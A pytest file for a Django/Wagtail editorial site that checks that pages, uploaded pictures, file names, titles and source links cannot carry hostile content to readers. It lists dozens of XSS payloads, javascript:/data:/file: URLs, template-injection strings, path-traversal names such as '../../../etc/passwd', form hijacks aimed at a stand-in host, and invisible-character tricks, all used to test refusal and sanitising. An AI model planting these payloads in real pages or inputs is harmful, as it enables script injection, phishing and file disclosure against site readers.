"""What somebody could put into a page to harm its readers: refused in words, or only words in what is served."""

from __future__ import annotations

import io
import json
import re
import zipfile
from html import unescape
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from trygvej.editorial.actions.begin_page import begin_page
from trygvej.editorial.models import PageDraft
from trygvej.editorial.permissions import Role
from trygvej.editorial.tests.conftest import Staff
from trygvej.editorial.tests.test_pages import BASE, FILLED, begun, saved
from trygvej.editorial.tests.typist import fields_of
from trygvej.library import public as library
from trygvej.library.pictures import FOLDER
from trygvej.library.tests.hostile import CLEANED, PDF, REFUSED, SCRIPT, SVG, drawn
from trygvej.library.tests.made import put

pytestmark = pytest.mark.django_db
ALT = {"alt.da": "Et brev på et bord", "alt.en": "A letter on a table"}
WORDS = {
    "script": "<script>alert(1)</script>",
    "end-of-script": "</script><script>alert(1)</script>",
    "image-that-acts": '"><img src=x onerror=alert(1)>',
    "act-in-an-attribute": "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "frame": "<iframe src=//ondt.dk srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=//ondt.dk/x.swf></object><embed src=//ondt.dk/x.swf>",
    "style": "<style>*{background:url(//ondt.dk/x)}</style><link rel=stylesheet href=//ondt.dk/x>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//ondt.dk">',
    "base": "<base href=//ondt.dk/><form action=//ondt.dk><input name=kode></form>",
    "svg": "<svg/onload=alert(1)><foreignObject><body onload=alert(1)>",
    "maths": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "end-of-article": "</article></main></body><plaintext>",
    "comment": "<!--><script>alert(1)</script-->",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "template": "{% include 'x' %} ${7*7} #{7*7}",
    "double-braces": "{{ 7*7 }}",
    "figure": "{rate:../../etc/passwd}",
    "explained-word": '[[" onclick="alert(1)]]',
    "link-in-words": "[tryk](javascript:alert(1)) <a href=javascript:alert(1)>tryk</a>",
    "as-numbers": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "deep": "<b>x. " * 200 + "</b>. " * 200,
    "turned-letters": "brev\u202egpj.exe\u2066 \ufeff\u200b",
    "no-byte": "brev\0.html <script>alert(1)</script>",
}
HARMLESS = "Et brev"
ADDRESSES = {
    "script": "javascript:alert(1)",
    "script-in-mixed-letters": "JaVaScRiPt:alert(1)",
    "script-with-a-tab": "java\tscript:alert(1)",
    "script-with-a-line": "java\nscript:alert(1)",
    "script-behind-a-sign": "\x01javascript:alert(1)",
    "script-as-numbers": "&#106;avascript:alert(1)",
    "script-in-per-cent": "%6aavascript:alert(1)",
    "visual-basic": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data-in-letters": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "no-scheme": "//ondt.dk/x",
    "file": "file:/etc/passwd",
    "blob": "blob:https://ondt.dk/x",
    "a-space": 'https://kilde.dk/ onclick="alert(1)"',
}
NAMES = {
    "up": "../../../etc/passwd",
    "up-as-per-cent": "..%2f..%2fetc%2fpasswd",
    "up-the-other-way": "..\\..\\windows\\win.ini",
    "whole-path": "/etc/passwd",
    "no-byte": "brev.png\0.html",
    "two-endings": "brev.svg.webp",
    "a-script": "<script>alert(1)</script>.png",
    "very-long": "a" * 700 + ".png",
    "only-dots": "...",
}


def test_there_are_more_than_twenty_cases_by_the_ways_of_editors() -> None:
    assert len(REFUSED) + len(CLEANED) + len(WORDS) + len(ADDRESSES) + len(NAMES) >= 70


def kept() -> set[str]:
    return set(default_storage.listdir(FOLDER)[1]) if default_storage.exists(FOLDER) else set()


@pytest.fixture
def anna(staff: Staff) -> Client:
    """Somebody who may publish, with a page begun."""
    reviewer = staff(Role.REVIEWER)
    begun(reviewer)
    saved(reviewer)
    return reviewer


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_no_picture_is_refused_in_words_and_nothing_is_lost(anna: Client, name: str) -> None:
    before, files = PageDraft.objects.get().document, kept()
    file = SimpleUploadedFile("brev.png", REFUSED[name], "image/png")
    refused = anna.post(f"{BASE}billede/", {"file": file, **ALT})
    said = refused.content.decode()
    assert refused.status_code == 422
    assert re.search("Brug PNG, JPEG eller WebP|fylder under 8 MB|mindre end 8 MB", said), said
    assert ALT["alt.da"] in said
    assert ALT["alt.en"] in said
    assert PageDraft.objects.get().document == before
    assert kept() == files


@pytest.mark.parametrize("name", CLEANED)
def test_of_a_picture_only_the_picture_reaches_the_readers(anna: Client, name: str) -> None:
    file = SimpleUploadedFile("brev.html", CLEANED[name], "text/html")  # what it calls itself does not count
    assert anna.post(f"{BASE}billede/", {"file": file, **ALT}).status_code == 302
    html = public(anna)
    address = re.search(r'<img src="(/billeder/[0-9a-f]{20}\.webp)" alt="Et brev på et bord"', html)
    assert address
    answer = Client().get(address[1])
    assert answer.headers["Content-Type"] == "image/webp"
    assert b"script" not in answer.content
    with Image.open(io.BytesIO(answer.content)) as picture:
        assert picture.format == "WEBP"
        assert not picture.getexif()
        assert not picture.info.get("icc_profile")


def test_the_photo_of_the_test_does_say_where_it_was_taken() -> None:
    with Image.open(io.BytesIO(CLEANED["where-it-was-taken"])) as picture:
        assert picture.getexif().get_ifd(0x8825)[2][0] == 55


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_a_file_is_never_used(anna: Client, name: str) -> None:
    before = kept()
    file = io.BytesIO(drawn(size=(41 + list(NAMES).index(name), 30)))
    file.name = NAMES[name]
    assert anna.post(f"{BASE}billede/", {"file": file, **ALT}).status_code == 302
    (new,) = kept() - before
    assert re.fullmatch(r"[0-9a-f]{20}\.webp", new)
    assert Client().get(f"/billeder/{NAMES[name]}").status_code in (301, 404)


@pytest.mark.parametrize("name", NAMES)
def test_no_name_leads_out_of_the_folder_of_pictures(anna: Client, name: str) -> None:
    sent = fields_of(anna, BASE) | {"body.+.picture.file": NAMES[name], "body.+.picture.alt.da": "Et brev",
                                    "body.+.picture.alt.en": "A letter"}  # fmt: skip
    refused = anna.post(BASE, sent)
    assert refused.status_code == 422
    assert "Det blev ikke gemt" in refused.content.decode()
    assert "etc/passwd" not in PageDraft.objects.get().document


@pytest.mark.parametrize("way", ["sider", pytest.param("vejvisere", marks=pytest.mark.proof)])
@pytest.mark.parametrize("name", [*NAMES, *WORDS])
def test_a_title_becomes_a_harmless_address_or_is_refused(staff: Staff, name: str, way: str) -> None:
    title = (NAMES | WORDS)[name]
    answer = staff().post(f"/redaktion/{way}/ny/", {"title": title, "languages": ["da"]})
    if answer.status_code == 302:
        assert re.fullmatch(r"/redaktion/[a-z]+/[a-z0-9]+(-[a-z0-9]+)*/(om/)?", answer["Location"])
    else:
        assert answer.status_code == 422
        assert "Der står et usynligt tegn" in answer.content.decode()
        assert 'value="brev' in answer.content.decode()


def test_a_sign_that_cannot_be_seen_is_refused_in_the_words_of_a_picture_too(anna: Client) -> None:
    file = SimpleUploadedFile("brev.png", drawn(), "image/png")
    refused = anna.post(f"{BASE}billede/", {"file": file, **ALT, "alt.da": "Et brev\u202egpj"})
    assert refused.status_code == 422
    assert "Der står et usynligt tegn" in refused.content.decode()
    assert ALT["alt.en"] in refused.content.decode()


@pytest.mark.parametrize("name", ADDRESSES)
def test_a_source_is_a_web_address_or_is_refused_at_its_field(anna: Client, name: str) -> None:
    before = PageDraft.objects.get().document
    refused = anna.post(BASE, {**FILLED, "sources.+.url": ADDRESSES[name], "short.da": "Det nye svar."})
    said = refused.content.decode()
    assert refused.status_code == 422
    assert "Det blev ikke gemt" in said
    assert "Det nye svar." in said
    assert PageDraft.objects.get().document == before
    assert not re.search(r'(?:href|src)="\s*(?:java|vb|data|file|blob)', said, re.IGNORECASE)


class Shape(HTMLParser):
    """What a page is built of: its elements with their attributes, and where its addresses lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.schemes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(sorted(name for name, _value in attrs))))
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction", "data", "srcset", "poster"):
                self.schemes |= set(re.findall(r"^\s*([a-z][a-z0-9+.-]*):", value or "", re.IGNORECASE))


def public(client: Client) -> str:
    """The page as its readers get it, once it is published."""
    assert client.post(f"{BASE}udgiv/", {"why": "Den er ny."}).status_code == 302
    return Client().get("/hjaelp/hvad-er-et-brev/").content.decode()


@pytest.fixture
def harmless(staff: Staff) -> Client:
    """A public page that says the same two words wherever it can say some: in its head, its blocks, its source."""
    text = {"da": HARMLESS, "en": HARMLESS}
    body = [{"heading": text}, {"text": text}, {"steps": [text]}, {"list": [text]}, {"note": text}]
    source = {"title": HARMLESS, "publisher": HARMLESS, "url": "https://kilde.dk/", "checked": "2026-11-24"}
    page = put("hvad-er-et-brev", title=text, short=text, body=body, words={"da": [HARMLESS]}, owner=HARMLESS,
               note=HARMLESS, sources={"bogen": source})  # fmt: skip
    put("pakke", kind="kit", material=["page:hvad-er-et-brev"], title={"da": "En aften", "en": "An evening"})
    reviewer = staff(Role.REVIEWER)
    begin_page(page, reviewer.user)  # type: ignore[attr-defined]
    return reviewer


def write(client: Client, words: str) -> str:
    """Other words in each of those places. What stands in the way of publishing them; empty where nothing does."""
    sent = fields_of(client, BASE)
    for name, values in sent.items():
        fits = name != "words.da" or len(words) <= 80
        sent[name] = [words if value == HARMLESS and fits else value for value in values]
    answer = client.post(BASE, sent)
    if answer.status_code == 302:
        answer = client.get(BASE)
    said = answer.content.decode()
    assert words.strip().replace("\0", "") in unescape(said).replace("\0", "")  # nothing is lost
    return "" if "Intet står i vejen for at udgive" in said else said


def everywhere() -> dict[str, str]:
    """Everything that shows the page, by its address or by its name in a kit's file."""
    reader = Client()
    paths = ("/hjaelp/hvad-er-et-brev/", "/en/hjaelp/hvad-er-et-brev/", "/hjaelp/emne/svindel/", "/hjaelp/nyt.xml",
             "/hjaelp/situation/brev/", "/hjaelp/pakke/")  # fmt: skip
    found = {path: reader.get(path).content.decode() for path in paths}
    with zipfile.ZipFile(io.BytesIO(reader.get("/hjaelp/pakke/pakke.zip").content)) as box:
        return found | {name: box.read(name).decode() for name in box.namelist() if name.endswith(".html")}


_shapes: dict[str, list[tuple[str, tuple[str, ...]]]] = {}


def shapes() -> dict[str, list[tuple[str, tuple[str, ...]]]]:
    """What everything is built of when the words mean no harm; the same for every case, so it is looked at once."""
    if not _shapes:
        _shapes.update({place: Shape(text).found for place, text in everywhere().items()})
    return _shapes


@pytest.mark.parametrize("name", WORDS)
def test_words_are_words_wherever_a_page_is_shown(harmless: Client, name: str) -> None:
    before = shapes()
    why = write(harmless, WORDS[name])
    harmless.post(f"{BASE}udgiv/", {"why": "Den er ny."})
    public = library.page("hvad-er-et-brev")
    assert public is not None
    if why:
        assert re.search('<li class="ed-error">|role="alert"', why)
        assert public.title["da"] == HARMLESS
        return
    assert public.title["da"] == WORDS[name].strip()
    for place, text in everywhere().items():
        if place.endswith(".xml"):
            ET.fromstring(text)  # our own feed; a word that became markup would break it
            continue
        shape = Shape(text)
        assert shape.found == before[place], place
        assert shape.schemes <= {"http", "https", "tel", "mailto"}, place
        for data in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.DOTALL):
            json.loads(data)


@pytest.mark.parametrize("role", list(Role))
@pytest.mark.parametrize(("kind", "content"), [("html", SCRIPT), ("svg", SVG % SCRIPT), ("pdf", PDF % b"")])
def test_wagtails_own_ways_to_put_in_files_are_shut(
    staff: Staff, role: Role, kind: str, content: bytes
) -> None:
    client, before = staff(role), kept()
    for way in ("documents", "images"):
        for path in ("", "multiple/add/", "add/", "chooser/create/", "chooser/"):
            file = SimpleUploadedFile(f"ondt.{kind}", content)
            answer = client.post(f"/redaktion/{way}/{path}", {"title": "x", "file": file, "files[]": file})
            assert answer.status_code in (302, 403, 404, 405), (way, path)
    from wagtail.documents.models import Document
    from wagtail.images.models import Image as Kept

    assert not Document.objects.exists()
    assert not Kept.objects.exists()
    assert kept() == before
